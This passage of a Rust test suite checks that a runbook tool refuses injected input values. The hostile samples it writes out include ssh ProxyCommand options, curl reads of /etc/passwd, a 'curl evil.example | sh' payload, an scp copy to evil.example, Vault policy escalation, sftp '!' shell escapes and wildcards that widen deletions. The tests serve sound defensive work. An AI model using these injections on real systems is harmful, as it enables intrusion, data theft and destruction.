fn a_value_cut_on_its_way_may_not_hold_an_option_anywhere() {
    for (run, hostile, ordinary, program, given) in [
        (
            r#"ssh -n "$(echo "{{ inputs.v }}" | sed "s/^v//")" uptime"#,
            "v-oProxyCommand=touch_x",
            "vweb1",
            "ssh",
            "[-n][web1][uptime]",
        ),
        (
            r#"f() { ssh -n "${1:1}" uptime; }; f "{{ inputs.v }}""#,
            "x-oProxyCommand=touch_x",
            "xweb1",
            "ssh",
            "[-n][web1][uptime]",
        ),
        (
            r#"echo "{{ inputs.v }}" | cut -c2- | xargs systemctl restart"#,
            "x--all",
            "xnginx",
            "systemctl",
            "[restart][nginx]",
        ),
        (
            r#"T="{{ inputs.v }}"; systemctl restart "${T#v}""#,
            "v--all",
            "vnginx",
            "systemctl",
            "[restart][nginx]",
        ),
    ] {
        refused_then_run(
            run,
            hostile,
            &["holds `-`", "starts with `-`", "starting with `-`"],
            ordinary,
            program,
            given,
        );
    }
    for (run, hostile, says, ordinary, program, given) in [
        (
            r#"curl -s -sd "{{ inputs.v }}" http://127.0.0.1:9/hook"#,
            "@/etc/passwd",
            "starts with `@`",
            "disk full",
            "curl",
            "[-s][-sd][disk full][http://127.0.0.1:9/hook]",
        ),
        (
            r#"curl -s --data-ascii "{{ inputs.v }}" http://127.0.0.1:9/hook"#,
            "@/etc/passwd",
            "starts with `@`",
            "disk full",
            "curl",
            "[-s][--data-ascii][disk full][http://127.0.0.1:9/hook]",
        ),
        (
            r#"gh api repos/o/r/issues -F body="{{ inputs.v }}""#,
            "@/etc/passwd",
            "starts with `@`",
            "disk full",
            "gh",
            "[api][repos/o/r/issues][-F][body=disk full]",
        ),
        (
            r#"sysctl "{{ inputs.v }}""#,
            "kernel.core_pattern=|/tmp/x",
            "holds `=`",
            "vm.swappiness",
            "sysctl",
            "[vm.swappiness]",
        ),
    ] {
        refused_then_run(run, hostile, &[says], ordinary, program, given);
    }
}

/// Audit 25 OPT-H, OPT-I, OPT-J, FR-5, f09: a value that would have a program read a local
/// file (`file://` of curl and the AWS CLI, curl's `-b` without `=`, 7-Zip's `@listfile`) or
/// start another of helm's settings is refused before anything runs; `tr A-Z a-z` is no cut
/// (a host name runs through it), and a `read` after `read -n` gets a cut value.
#[test]
fn a_value_that_would_name_a_file_or_another_setting_is_refused() {
    for (run, hostile, says, ordinary, program, given) in [
        (
            r#"curl -fsS "{{ inputs.v }}""#,
            "file:///etc/passwd",
            "starts with `file:`",
            "http://127.0.0.1:9/health",
            "curl",
            "[-fsS][http://127.0.0.1:9/health]",
        ),
        (
            r#"curl -s -b "{{ inputs.v }}" http://127.0.0.1:9/"#,
            "/etc/passwd",
            "holds no `=`",
            "session=abc",
            "curl",
            "[-s][-b][session=abc][http://127.0.0.1:9/]",
        ),
        (
            r#"aws sns publish --topic-arn t --message "{{ inputs.v }}""#,
            "file:///etc/passwd",
            "starts with `file://`",
            "disk full",
            "aws",
            "[sns][publish][--topic-arn][t][--message][disk full]",
        ),
        (
            r#"helm upgrade web ./chart --set image.tag="{{ inputs.v }}""#,
            "1.2,securityContext.privileged=true",
            "`,`",
            "1.2.3",
            "helm",
            "[upgrade][web][./chart][--set][image.tag=1.2.3]",
        ),
        (
            r#"7z a /tmp/b.7z "{{ inputs.v }}""#,
            "@/etc/list",
            "starts with `@`",
            "logs",
            "7z",
            "[a][/tmp/b.7z][logs]",
        ),
        (
            r#"ssh -n "$(echo "{{ inputs.v }}" | tr A-Z a-z)" uptime"#,
            "-oProxyCommand=touch_x",
            "`-`",
            "WEB-1",
            "ssh",
            "[-n][web-1][uptime]",
        ),
        (
            r#"{ read -n 1 _; read H; } <<< "{{ inputs.v }}"; ssh -n "$H" uptime"#,
            "x-oProxyCommand=touch_x",
            "`-`",
            "xweb1",
            "ssh",
            "[-n][web1][uptime]",
        ),
    ] {
        refused_then_run(run, hostile, &[says], ordinary, program, given);
    }
}

/// Audit 26 HOLE-2, -10, -18, -19, -21, -23, OPT-3: a value that would add structure to the
/// document or setting it stands in (a field of JSON, a header, a connection string's
/// setting, a host of scp, a branch of git push, a folder above) is refused before anything
/// runs; an ordinary value reaches the program as written.
#[test]
fn a_value_that_would_add_structure_to_a_document_is_refused() {
    for (run, hostile, says, ordinary, program, given) in [
        (
            r#"kubectl patch deploy web -p '{"spec":{"template":{"metadata":{"labels":{"v":"{{ inputs.v }}"}}}}}'"#,
            r#"1","x":"y"#,
            "JSON string",
            "1.2.3",
            "kubectl",
            r#"[patch][deploy][web][-p][{"spec":{"template":{"metadata":{"labels":{"v":"1.2.3"}}}}}]"#,
        ),
        (
            r#"curl -fsS -H "X-Note: {{ inputs.v }}" http://127.0.0.1:9/"#,
            "a\nX-Admin: 1",
            "a new line",
            "disk full; see #42",
            "curl",
            "[-fsS][-H][X-Note: disk full; see #42][http://127.0.0.1:9/]",
        ),
        (
            r#"psql "host=127.0.0.1 dbname={{ inputs.v }}" -c 'select 1'"#,
            "app host=evil.example",
            "a space",
            "app",
            "psql",
            "[host=127.0.0.1 dbname=app][-c][select 1]",
        ),
        (
            r#"psql -d "{{ inputs.v }}" -c 'select 1'"#,
            "host=evil.example dbname=app",
            "connection string",
            "app",
            "psql",
            "[-d][app][-c][select 1]",
        ),
        (
            r#"scp /tmp/backup.tgz "{{ inputs.v }}""#,
            "evil.example:/tmp/",
            "a host to copy to",
            "copy.tgz",
            "scp",
            "[/tmp/backup.tgz][copy.tgz]",
        ),
        (
            r#"git push origin "{{ inputs.v }}""#,
            ":main",
            "refspec",
            "fix-42",
            "git",
            "[push][origin][fix-42]",
        ),
        (
            r#"tar -czf /tmp/r.tgz "/srv/releases/{{ inputs.v }}""#,
            "../../etc",
            "`..`",
            "2026-12-01",
            "tar",
            "[-czf][/tmp/r.tgz][/srv/releases/2026-12-01]",
        ),
        (
            r#"curl -fsS "http://127.0.0.1:9/search?q={{ inputs.v }}""#,
            "x&admin=1",
            "another parameter",
            "web-1",
            "curl",
            "[-fsS][http://127.0.0.1:9/search?q=web-1]",
        ),
    ] {
        refused_then_run(run, hostile, &[says], ordinary, program, given);
    }
    // A value written as a `NAME=` line of a file: a new line would set another variable.
    let rb = runbook_of(&[(
        "s",
        r#"echo "MODE={{ inputs.v }}" >> "$OUT/app.env""#.to_string(),
    )]);
    let (o, out, _, _t) = run_runbook(&rb, "fast\nLD_PRELOAD=/tmp/e.so");
    assert_ne!(o.code, 0);
    assert!(o.stderr.contains("another variable"), "{}", o.stderr);
    assert!(!out.join("app.env").exists());
}

/// Audit 27 HOLE-8, HOLE-3, HOLE-10: a value in jq's code (where `env` reads the
/// environment), in a directive of a configuration file that ends with `;`, or starting a
/// command of a file that runs its lines, is refused before anything runs; the same steps
/// run an ordinary value.
#[test]
fn a_value_in_jq_code_a_directive_or_a_command_of_a_file_is_refused() {
    refused_then_run(
        r#"jq -n '[{"name":"web-1"}] | .[] | select(.name == "{{ inputs.v }}")'"#,
        r#"x") , env | ("#,
        &["jq string"],
        "web-1",
        "jq",
        r#"[-n][[{"name":"web-1"}] | .[] | select(.name == "web-1")]"#,
    );
    refused_then_run(
        r#"jq -n '[1,2,3] | .[{{ inputs.v }}]'"#,
        "env",
        &["only a number"],
        "1",
        "jq",
        "[-n][[1,2,3] | .[1]]",
    );
    // nginx's `server_name x; root /;`: another directive.
    let rb = runbook_of(&[(
        "s",
        r#"echo "server_name {{ inputs.v }};" >> "$OUT/app.conf""#.to_string(),
    )]);
    let (o, out, _, _t) = run_runbook(&rb, "x; root /");
    assert_ne!(o.code, 0);
    assert!(o.stderr.contains("directive"), "{}", o.stderr);
    assert!(!out.join("app.conf").exists());
    let (o, out, _, _t) = run_runbook(&rb, "app.example.com www.example.com");
    assert_eq!(o.code, 0, "{}", o.stderr);
    assert_eq!(
        std::fs::read_to_string(out.join("app.conf")).unwrap(),
        "server_name app.example.com www.example.com;\n"
    );
    // A git hook's command: even one word is a command there.
    let rb = runbook_of(&[(
        "s",
        r#"mkdir -p "$OUT/.git/hooks"; echo "{{ inputs.v }}" > "$OUT/.git/hooks/pre-commit""#
            .to_string(),
    )]);
    let (o, out, _, _t) = run_runbook(&rb, "reboot");
    assert_ne!(o.code, 0);
    assert!(o.stderr.contains("starts a command"), "{}", o.stderr);
    assert!(!out.join(".git").exists());
}

/// Audit 24 HOLE-J: a value written to a file in one step and sourced or run by a later
/// step is followed there: what is not one plain word is refused before anything runs, and
/// lint says so ahead (RB037); a plain word runs through both steps; a file no other step
/// reads leaves the value free text.
#[test]
fn a_value_written_to_a_file_a_later_step_runs_is_one_plain_word() {
    for (write, read) in [
        (
            r#"echo "H={{ inputs.v }}" > vars.env"#,
            ". ./vars.env\necho \"[$H]\" > \"$OUT/t\"",
        ),
        (
            r#"printf 'echo "[%s]"\n' "{{ inputs.v }}" > job.sh"#,
            "bash job.sh > \"$OUT/t\"",
        ),
    ] {
        let rb = runbook_of(&[("s", write.to_string()), ("t", read.to_string())]);
        let (o, out, created, t) = run_runbook(&rb, "x;touch {m}/1");
        assert_ne!(o.code, 0, "{write}");
        assert!(created.is_empty(), "{write}: {created:?}");
        assert!(o.stderr.contains("one plain word"), "{}", o.stderr);
        assert!(!out.join("t").exists(), "{write}");
        let lint = t.exec(&["lint", "--no-shellcheck", "runbooks/rb.yaml"]);
        assert!(lint.stdout.contains("RB037"), "{write}: {}", lint.stdout);
        let (o, out, _, _t) = run_runbook(&rb, "web-1");
        assert_eq!(o.code, 0, "{write}: {}", o.stderr);
        assert_eq!(
            std::fs::read_to_string(out.join("t"))
                .unwrap_or_default()
                .trim(),
            "[web-1]"
        );
    }
    // A note appended to a log no step reads again stays free text.
    let rb = runbook_of(&[
        ("s", r#"echo "{{ inputs.v }}" >> notes.log"#.to_string()),
        ("t", "tail -n 1 other.log 2>/dev/null || true".to_string()),
    ]);
    let (o, _, created, _t) = run_runbook(&rb, "it's down; see #42 $(touch {m}/2)");
    assert_eq!(o.code, 0, "{}", o.stderr);
    assert!(created.is_empty(), "{created:?}");
}

/// Audit 24 HOLE-K: a value given to interpreter code that runs a program with a list of
/// arguments (Perl's `system(LIST)`, Python's `subprocess.run([...])`), through its
/// environment or its arguments, is a word of that program: one starting with `-` is refused
/// before anything runs; a host name runs.
#[test]
fn a_value_given_to_code_that_runs_a_program_may_not_be_its_option() {
    refused_then_run(
        r#"H="{{ inputs.v }}" perl -e 'system("ssh", "-n", $ENV{H}, "uptime")'"#,
        "-oProxyCommand=touch_x",
        &["starts with `-`", "must be one plain word"],
        "web-1",
        "ssh",
        "[-n][web-1][uptime]",
    );
    for run in [
        r#"python3 -c 'import os, subprocess; subprocess.run(["ssh", "-n", os.environ["H"], "uptime"])'"#,
        r#"python3 -c 'import sys, subprocess; subprocess.run(["ssh", "-n", sys.argv[1], "uptime"])' "{{ inputs.v }}""#,
    ] {
        let run = format!("H=\"{{{{ inputs.v }}}}\" {run}");
        let (o, given) = run_with_fakes(&run, "-oProxyCommand=touch_x");
        assert_ne!(o.code, 0, "{run}");
        assert!(given.iter().all(|(_, g)| g.is_none()), "{run}: {given:?}");
    }
}

/// Audit 25 HOLE-L, HOLE-M, HOLE-F2, FR-6: a filter that writes a dash (`sed s/_/-/`,
/// Python's `.replace`) refuses every value; `expr substr` and `dd skip=` cut a value; `cat f
/// | xargs make` reads a file back; a `sed` that trims a suffix keeps `web-1` running.
#[test]
fn filters_that_write_or_drop_characters_are_followed() {
    for (run, value) in [
        (
            r#"ssh -n "$(echo "{{ inputs.v }}" | sed "s/_/-/")" uptime"#,
            "_oProxyCommand=touch_x",
        ),
        (
            r#"ssh -n "$(echo "{{ inputs.v }}" | sed "s/_/-/")" uptime"#,
            "web1",
        ),
        (
            r#"H="{{ inputs.v }}"; ssh -n "$(expr substr "$H" 2 100)" uptime"#,
            "v-oProxyCommand=touch_x",
        ),
        (
            r#"echo "{{ inputs.v }}" | dd bs=1 skip=1 2>/dev/null | xargs systemctl restart"#,
            "v--all",
        ),
        (
            r#"printf '%s\n' "{{ inputs.v }}" > "$OUT/l"; cat "$OUT/l" | xargs make -s"#,
            "SHELL=/tmp/x",
        ),
    ] {
        let (o, given) = run_with_fakes(run, value);
        assert_ne!(o.code, 0, "{run} with {value:?}");
        assert!(given.iter().all(|(_, g)| g.is_none()), "{run}: {given:?}");
    }
    let (o, given) = run_with_fakes(
        r#"ssh -n "$(echo "{{ inputs.v }}" | sed 's/\.example\.com$//')" uptime"#,
        "web-1.example.com",
    );
    assert_eq!(o.code, 0, "{}", o.stderr);
    let ssh = given
        .iter()
        .find(|(n, _)| n == "ssh")
        .and_then(|(_, g)| g.clone());
    assert_eq!(ssh.as_deref(), Some("[-n][web-1][uptime]"));
}

/// Audit 27 HOLE-14: a value that would widen what a destructive command acts on (an empty
/// name ending the path `rm -rf` deletes, a `*` in a unit of `systemctl stop`, an empty
/// pattern of `pkill -f`) is refused before anything runs.
#[test]
fn a_value_that_would_widen_a_destructive_command_is_refused() {
    let rb = runbook_of(&[(
        "s",
        r#"mkdir -p "$OUT/releases/old" "$OUT/releases/keep"; rm -rf "$OUT/releases/{{ inputs.v }}""#
            .to_string(),
    )])
    .replace("readonly: true", "dangerous: true\n    confirm: clean up");
    let run = |value: &str| {
        let t = Test::new().file("runbooks/rb.yaml", &rb);
        let out = t.path("out");
        std::fs::create_dir_all(&out).unwrap();
        let t = t.env("OUT", out.to_str().unwrap());
        let o = t.exec(&[
            "run",
            "rb",
            "--yes",
            "--confirm",
            "s",
            "--input",
            &format!("v={value}"),
        ]);
        (o, out, t)
    };
    for value in ["", "/", ".", " "] {
        let (o, out, _t) = run(value);
        assert_ne!(o.code, 0, "{value:?}");
        assert!(o.stderr.contains("whole folder"), "{value:?}: {}", o.stderr);
        assert!(!out.join("releases").exists(), "{value:?}");
    }
    let (o, out, _t) = run("old");
    assert_eq!(o.code, 0, "{}", o.stderr);
    assert!(!out.join("releases/old").exists());
    assert!(out.join("releases/keep").exists());
    refused_then_run(
        r#"systemctl stop "{{ inputs.v }}""#,
        "*",
        &["pattern over every unit"],
        "nginx.service",
        "systemctl",
        "[stop][nginx.service]",
    );
    // Audit 28 H-5, H-1 and F-1: through xargs; a pattern that matches any name though not
    // empty; only numbers reach `kill`, so a pattern with `.*` and spaces is given to pgrep.
    refused_then_run(
        r#"echo "{{ inputs.v }}" | xargs systemctl stop"#,
        "*",
        &["pattern over every unit"],
        "nginx.service",
        "systemctl",
        "[stop][nginx.service]",
    );
    for hostile in ["x*", "[^z]", "."] {
        refused_then_run(
            r#"kill -TERM $(pgrep -f "{{ inputs.v }}") 2>/dev/null || true"#,
            hostile,
            &["match every process", "would match most processes"],
            "celery.*worker -A app",
            "pgrep",
            "[-f][celery.*worker -A app]",
        );
    }
}

/// Audit 29 H-16: a JSON string that a container's shell runs as its script holds one
/// plain word; H-22: just pastes a recipe's arguments into its lines, so they are one plain
/// word too. Refused before anything runs; an ordinary value reaches the program as written.
#[test]
fn a_value_in_a_containers_shell_script_or_a_recipe_is_one_plain_word() {
    refused_then_run(
        r#"aws ecs run-task --cluster c --overrides '{"containerOverrides":[{"name":"app","command":["sh","-c","bin/migrate {{ inputs.v }}"]}]}'"#,
        "1; curl -s evil.example | sh",
        &["container's shell"],
        "2026_12_07_add_index",
        "aws",
        r#"[ecs][run-task][--cluster][c][--overrides][{"containerOverrides":[{"name":"app","command":["sh","-c","bin/migrate 2026_12_07_add_index"]}]}]"#,
    );
    let t = Test::new().file(
        "runbooks/rb.yaml",
        &runbook_of(&[("s", r#"just deploy "{{ inputs.v }}""#.to_string())]),
    );
    let out = t.path("out");
    std::fs::create_dir_all(&out).unwrap();
    let bin = fake_program(&t, "just");
    let path = format!(
        "{}:{}",
        bin.display(),
        std::env::var("PATH").unwrap_or_default()
    );
    let t = t.env("OUT", out.to_str().unwrap()).env("PATH", &path);
    let o = t.exec(&["run", "rb", "--yes", "--input", "v=1.4.2; touch pwned"]);
    assert_ne!(o.code, 0);
    assert!(o.stderr.contains("plain word"), "{}", o.stderr);
    assert!(!out.join("just").exists());
    let o = t.exec(&["run", "rb", "--yes", "--input", "v=1.4.2-rc1"]);
    assert_eq!(o.code, 0, "{}", o.stderr);
    assert_eq!(
        std::fs::read_to_string(out.join("just")).unwrap(),
        "[deploy][1.4.2-rc1]"
    );
}

/// [`run_with_fakes`] with the programs `fakes` first on the PATH instead, the step marked
/// `dangerous` and confirmed.
fn run_with_these_fakes(
    fakes: &[&str],
    run: &str,
    value: &str,
) -> (common::Output, Vec<(String, Option<String>)>) {
    let rb = runbook_of(&[("s", run.to_string())])
        .replace("readonly: true", "dangerous: true\n    confirm: go ahead");
    run_step(&rb, fakes, fake_program, &["--confirm", "s"], value)
}

/// Audit 29 H-8, H-9, H-11, H-12, H-13, H-18: a value that would widen what a command
/// acts on — an empty repository of `docker images` feeding `docker rmi`, `all` as
/// ansible's `--limit`, `*` as the include of what `aws s3 rm` deletes or `aws s3 cp`
/// copies, `.` as the lines `sed -i` deletes, `*` as an NSG rule's source (also after `-n
/// ssh`, a rule's name), a `'` in a JMESPath query feeding a deleter — is refused before anything runs (every program a fake first on the PATH); an
/// ordinary value reaches the program.
#[test]
fn a_value_that_would_widen_what_more_commands_act_on_is_refused() {
    for (fakes, run, hostiles, says, ordinary, program, given) in [
        (
            &["docker"][..],
            r#"docker images -q "{{ inputs.v }}" | xargs -r docker rmi"#,
            &["", "*"][..],
            "picks what a later command deletes",
            "registry.example.com/app:1.2",
            "docker",
            "[images][-q][registry.example.com/app:1.2]",
        ),
        (
            &["ansible-playbook"],
            r#"ansible-playbook -i inv site.yml --limit "{{ inputs.v }}""#,
            &["all", "*", "web:db", "web,&db", ""],
            "host pattern",
            "web-1.example.com",
            "ansible-playbook",
            "[-i][inv][site.yml][--limit][web-1.example.com]",
        ),
        (
            &["aws"],
            r#"aws s3 rm s3://b/ --recursive --exclude "*" --include "{{ inputs.v }}*""#,
            &["*", "?", ""],
            "would include every object",
            "logs/2026-",
            "aws",
            "[s3][rm][s3://b/][--recursive][--exclude][*][--include][logs/2026-*]",
        ),
        (
            &["aws"],
            r#"aws s3 cp s3://b/ "$OUT/restore" --recursive --exclude "*" --include "{{ inputs.v }}""#,
            &["*", "?/*", ""],
            "would include every object",
            "logs/2026-12-07.gz",
            "aws",
            "[s3][cp][s3://b/][{any}/restore][--recursive][--exclude][*][--include][logs/2026-12-07.gz]",
        ),
        (
            &["sed"],
            r#"sed -i "/{{ inputs.v }}/d" "$OUT/hosts""#,
            &["", ".", "^", ".*"],
            "would delete every line",
            "old-host",
            "sed",
            "[-i][/old-host/d][{any}/hosts]",
        ),
        (
            &["az"],
            r#"az network nsg rule create -g rg --nsg-name nsg -n allow-ssh --priority 100 --source-address-prefixes "{{ inputs.v }}""#,
            &["*", "Internet", "0.0.0.0/0", "any"],
            "would match every address",
            "203.0.113.7/32",
            "az",
            "[network][nsg][rule][create][-g][rg][--nsg-name][nsg][-n][allow-ssh][--priority][100][--source-address-prefixes][203.0.113.7/32]",
        ),
        // (`ssh`, the rule's name, is an option's argument, not the ssh command.)
        (
            &["az"],
            r#"az network nsg rule create -g rg --nsg-name nsg -n ssh --priority 100 --source-address-prefixes "{{ inputs.v }}""#,
            &["*", "Internet", "0.0.0.0/0"],
            "would match every address",
            "203.0.113.7/32",
            "az",
            "[network][nsg][rule][create][-g][rg][--nsg-name][nsg][-n][ssh][--priority][100][--source-address-prefixes][203.0.113.7/32]",
        ),
        (
            &["aws"],
            r#"aws ec2 describe-instances --query "Reservations[].Instances[?contains(Tags[?Key=='Name'].Value|[0], '{{ inputs.v }}')].InstanceId" --output text | xargs -r aws ec2 terminate-instances --instance-ids"#,
            &["", "x') || contains(InstanceId, '", "x`"],
            "JMESPath",
            "batch-7",
            "aws",
            "[ec2][describe-instances][--query][Reservations[].Instances[?contains(Tags[?Key=='Name'].Value|[0], 'batch-7')].InstanceId][--output][text]",
        ),
    ] {
        for hostile in hostiles {
            let (o, given_hostile) = run_with_these_fakes(fakes, run, hostile);
            assert_ne!(o.code, 0, "{run} with {hostile:?}");
            assert!(
                o.stderr.contains(says),
                "{run} with {hostile:?}: {}",
                o.stderr
            );
            assert!(
                given_hostile.iter().all(|(_, g)| g.is_none()),
                "{run} with {hostile:?}: {given_hostile:?}"
            );
        }
        let (o, given_ordinary) = run_with_these_fakes(fakes, run, ordinary);
        assert_eq!(o.code, 0, "{run} with {ordinary:?}: {}", o.stderr);
        let got = given_ordinary
            .iter()
            .find(|(n, _)| n == program)
            .and_then(|(_, g)| g.clone());
        match given.split_once("{any}") {
            // (Text the test does not know: the fake's `$OUT` folder.)
            Some((head, tail)) => {
                let got = got.unwrap_or_default();
                assert!(got.starts_with(head) && got.ends_with(tail), "{run}: {got}");
            }
            None => assert_eq!(got.as_deref(), Some(given), "{run}"),
        }
    }
}

/// A fake `crontab` in a folder of the test: `-l` prints a table of two lines, `-` writes
/// its arguments (`[arg]` each), a new line and the table it reads to `$OUT/crontab`.
fn fake_crontab(t: &Test, name: &str) -> std::path::PathBuf {
    write_fake(t, name, "#!/bin/sh
if [ \"$1\" = -l ]; then printf '0 1 * * * /usr/local/bin/backup.sh\\n0 2 * * * /usr/local/bin/rotate.sh\\n'; exit 0; fi\n{ printf '[%s]' \"$@\"; echo; cat; } > \"$OUT/crontab\"\n")
}

/// Audit 29 H-6: an empty or `.` pattern of the lines `grep -v` drops before `crontab -`
/// replaces the table is refused before anything runs; an ordinary one drops its own line
/// and `crontab -` (only it: `crontab -l` writes nothing) is given the rest of the table.
#[test]
fn a_pattern_of_the_lines_dropped_from_a_crontab_may_not_drop_every_line() {
    let rb = runbook_of(&[(
        "s",
        r#"crontab -l | grep -v "{{ inputs.v }}" | crontab -"#.to_string(),
    )])
    .replace("readonly: true", "dangerous: true\n    confirm: go ahead");
    for hostile in ["", ".", "^"] {
        let (o, given) = run_step(
            &rb,
            &["crontab"],
            fake_crontab,
            &["--confirm", "s"],
            hostile,
        );
        assert_ne!(o.code, 0, "{hostile:?}");
        assert!(
            o.stderr
                .contains("drops from what then replaces the whole table"),
            "{hostile:?}: {}",
            o.stderr
        );
        assert_eq!(given, vec![("crontab".to_string(), None)], "{hostile:?}");
    }
    let (o, given) = run_step(
        &rb,
        &["crontab"],
        fake_crontab,
        &["--confirm", "s"],
        "backup.sh",
    );
    assert_eq!(o.code, 0, "{}", o.stderr);
    assert_eq!(
        given,
        vec![(
            "crontab".to_string(),
            Some("[-]\n0 2 * * * /usr/local/bin/rotate.sh\n".to_string())
        )]
    );
}

/// Audit 40 A40-4..A40-13: a value that widens what a destructive command acts on by the
/// command's own syntax — a hex prefix of an iptables range, a `pkill -f` pattern of one
/// common character, a `find -regex` over every path, a `grep -v` of every cron line, a
/// slice as the unit `systemctl stop` stops, gsutil's `**`, a pdsh host range, `!key` as a
/// label selector, zfs's `%` snapshot range, `:/` as git's pathspec, an empty HDFS path —
/// is refused before anything runs (every program a fake first on the PATH), the message
/// naming the step and the construct; an ordinary value reaches the program.
#[test]
fn a_value_that_widens_by_the_commands_own_syntax_is_refused() {
    for (fake, run, hostiles, says, ordinary) in [
        (
            "iptables",
            r#"iptables -A INPUT -p tcp --dport 22 -s "{{ inputs.v }}" -j ACCEPT"#,
            &["0.0.0.0/0x0", "10.0.0.0/0X7"][..],
            "address range a firewall rule matches",
            "10.1.2.0/24",
        ),
        (
            "pkill",
            r#"pkill -f -- "{{ inputs.v }}""#,
            &["/", "e", "[0-9]", "usr"],
            "pattern of the processes",
            "gunicorn: app",
        ),
        (
            "find",
            r#"find "$OUT" -type f -regex "{{ inputs.v }}" -delete"#,
            &["/.+", ".*/.*"],
            "name pattern of the files `find` deletes",
            ".*/api\\.log",
        ),
        (
            "crontab",
            r#"crontab -l | grep -v "{{ inputs.v }}" | crontab - || true"#,
            &["\\*", "/"],
            "drops from what then replaces the whole table",
            "backup.sh",
        ),
        (
            "systemctl",
            r#"systemctl stop -- "{{ inputs.v }}""#,
            &["system.slice", "-.slice", "multi-user.target"],
            "a slice or target",
            "nginx.service",
        ),
        (
            "gsutil",
            r#"gsutil -m rm "gs://backups-prod/dumps/{{ inputs.v }}""#,
            &["**", "r1/*"],
            "reads with wildcards",
            "r1.sql.gz",
        ),
        (
            "pdsh",
            r#"pdsh -w "{{ inputs.v }}" "sudo systemctl restart nginx""#,
            &["web[1-99]", "^/tmp/hosts", "all"],
            "host list the command runs on",
            "web-1",
        ),
        (
            "kubectl",
            r#"kubectl delete pods -l "{{ inputs.v }}""#,
            &["!nothing", "app", "app notin (x)"],
            "label selector",
            "app=web",
        ),
        (
            "zfs",
            r#"zfs destroy "tank/db@{{ inputs.v }}""#,
            &["%", "a%"],
            "snapshot `zfs destroy` destroys",
            "daily-2026-12-01",
        ),
        (
            "git",
            r#"git clean -fdx -- "{{ inputs.v }}""#,
            &[".", "*", ":/"],
            "pathspec",
            "sub/x.tmp",
        ),
        (
            "hdfs",
            r#"hdfs dfs -rm -r -skipTrash "/data/dumps/{{ inputs.v }}""#,
            &["", ".", "*"],
            "reads with wildcards",
            "r1",
        ),
    ] {
        for hostile in hostiles {
            let (o, given) = run_with_these_fakes(&[fake], run, hostile);
            assert_ne!(o.code, 0, "{run} with {hostile:?}");
            assert!(
                o.stderr.contains(says) && o.stderr.contains("step `s`"),
                "{run} with {hostile:?}: {}",
                o.stderr
            );
            assert!(
                given.iter().all(|(_, g)| g.is_none()),
                "{run} with {hostile:?}: {given:?}"
            );
        }
        let (o, given) = run_with_these_fakes(&[fake], run, ordinary);
        assert_eq!(o.code, 0, "{run} with {ordinary:?}: {}", o.stderr);
        let got = given
            .iter()
            .find_map(|(_, g)| g.clone())
            .unwrap_or_default();
        // (crontab is given `-l` or `-`; grep has the value.)
        let shown = if fake == "crontab" { "[-" } else { ordinary };
        assert!(got.contains(shown), "{run} with {ordinary:?}: {got}");
    }
}

/// A fake program in a folder of the test that writes its arguments (`[arg]` each), a new
/// line and what it reads on its input to `$OUT/NAME`. Only for steps that give it an
/// input (a here-document, a pipe).
fn fake_reader(t: &Test, name: &str) -> std::path::PathBuf {
    write_fake(
        t,
        name,
        &format!("#!/bin/sh\n{{ printf '[%s]' \"$@\"; echo; cat; }} > \"$OUT/{name}\"\n"),
    )
}

/// The programs [`refused_then_read`] puts first on the PATH for most cases, each a
/// [`fake_reader`].
const READERS: [&str; 7] = [
    "vault",
    "nsupdate",
    "iptables-restore",
    "sftp",
    "lftp",
    "smbclient",
    "mail",
];

/// Audit 29 H-25, H-24, H-23, H-10: a value in a document or command string that a program
/// reads in a language of its own (a Vault policy in HCL on vault's input, nsupdate's and
/// iptables-restore's lines, sftp's batch, lftp's and smbclient's `-c`, a mail body) is
/// refused before anything runs where it would add a rule or command there; the same step
/// gives an ordinary value to the program, as written.
#[test]
fn a_value_in_a_programs_own_command_language_stays_data() {
    let policy = "path \"secret/data/{{ inputs.v }}/*\" {\n  capabilities = [\"read\"]\n}";
    let cases: Vec<(String, &str, &str, &str, &str, &str)> = vec![
        // H-25: the value would end the HCL string and add a rule of its own.
        (
            format!("vault policy write app - <<EOF\n{policy}\nEOF"),
            "x\" { capabilities = [\"read\"] }\npath \"sys/*\" { capabilities = [\"sudo\"] }\npath \"y",
            "quoted string of a Vault policy",
            "app-1.prod",
            "vault",
            "[policy][write][app][-]\npath \"secret/data/app-1.prod/*\" {\n  capabilities = [\"read\"]\n}\n",
        ),
        (
            format!("vault policy write app - <<EOF\n{policy}\nEOF"),
            "*",
            "grants every path",
            "team_a/app-1",
            "vault",
            "[policy][write][app][-]\npath \"secret/data/team_a/app-1/*\" {\n  capabilities = [\"read\"]\n}\n",
        ),
        (
            "echo 'path \"kv/{{ inputs.v }}\" { capabilities = [\"read\"] }' | vault policy write app -".to_string(),
            "a\" { capabilities = [\"sudo\"] } path \"sys/*",
            "quoted string of a Vault policy",
            "app-1.prod",
            "vault",
            "[policy][write][app][-]\npath \"kv/app-1.prod\" { capabilities = [\"read\"] }\n",
        ),
        // H-24: a new line would add another change to the zone.
        (
            "nsupdate -k /etc/k.key <<EOF\nupdate add {{ inputs.v }}.example.com 300 A 10.0.0.1\nsend\nEOF".to_string(),
            "x\nupdate delete example.com\nsend",
            "`nsupdate`",
            "web-1",
            "nsupdate",
            "[-k][/etc/k.key]\nupdate add web-1.example.com 300 A 10.0.0.1\nsend\n",
        ),
        (
            "iptables-restore -n <<EOF\n*filter\n-A INPUT -s {{ inputs.v }} -j DROP\nCOMMIT\nEOF".to_string(),
            "10.0.0.1 -j DROP\n-I INPUT 1 -j ACCEPT",
            "iptables-restore",
            "203.0.113.7",
            "iptables-restore",
            "[-n]\n*filter\n-A INPUT -s 203.0.113.7 -j DROP\nCOMMIT\n",
        ),
        // H-23: `!` at a command's start runs a local shell.
        (
            "sftp -b - backup@db-1 <<EOF\nput /var/backups/{{ inputs.v }} /srv/in/\nEOF".to_string(),
            "x /srv/in/\n!touch /tmp/pwned",
            "sftp",
            "backup-2026-12-07.tar.gz",
            "sftp",
            "[-b][-][backup@db-1]\nput /var/backups/backup-2026-12-07.tar.gz /srv/in/\n",
        ),
        (
            "lftp -c \"open sftp://db-1; put {{ inputs.v }}\" < /dev/null".to_string(),
            "x; !touch /tmp/pwned",
            "lftp",
            "dir/file",
            "lftp",
            "[-c][open sftp://db-1; put dir/file]\n",
        ),
        (
            "smbclient //fs/share -c \"put {{ inputs.v }}\" < /dev/null".to_string(),
            "x; !touch /tmp/pwned",
            "smbclient",
            "backup-2026-12-07.tar.gz",
            "smbclient",
            "[//fs/share][-c][put backup-2026-12-07.tar.gz]\n",
        ),
        // H-10: a line starting with `~` is a command of mail (`~!` a shell).
        (
            "mail -s \"disk full\" ops@example.com <<< \"{{ inputs.v }}\"".to_string(),
            "web-1 is full\n~!touch /tmp/pwned",
